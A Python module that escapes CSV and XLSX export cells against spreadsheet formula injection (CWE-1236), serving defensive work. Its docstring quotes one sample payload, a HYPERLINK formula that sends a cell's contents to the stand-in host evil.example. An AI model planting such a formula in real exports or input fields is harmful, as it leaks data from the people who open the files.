"""Cells of every CSV and XLSX the portal writes: no formula ever leaves it (CWE-1236).

A household's contact or a unit's name typed as ``=HYPERLINK("http://evil.example/x?"&A2,
"点击查看")`` must reach the person who opens an export as that text, never as a live
formula. One rule for every writer (grids.io.exporting, governance.reports.exports):
- XLSX: every text cell is a string cell (``data_type 's'``) with its text unchanged —
  openpyxl would otherwise store text starting with "=" as a formula;
- CSV: text starting with ``= + - @``, a tab or a carriage return gets a leading ``'``
  (what spreadsheet programs read as "this is text"); numbers, also written as text
  (``-3``, ``93.72``, ``-1.5%``), are never changed.
Imports keep such values as the text they are (grids.io.reader reads every cell as text).
"""

import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A number as a report prints it: a sign, digits, decimals, an exponent, a percent sign.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


def csv_cell(value):
    """One CSV cell: text a spreadsheet would run as a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_row(values) -> list:
    return [csv_cell(v) for v in values]


def set_xlsx_value(cell, value) -> None:
    """Put ``value`` in an openpyxl cell; text stays text (a string cell), never a formula."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"


def xlsx_cell(sheet, value=None, *, number_format: str | None = None, font=None):
    """A write-only cell holding ``value`` (text as a string cell), optionally styled."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet)
    if font is not None:
        cell.font = font
    if number_format is not None:
        cell.number_format = number_format
    set_xlsx_value(cell, value)
    return cell
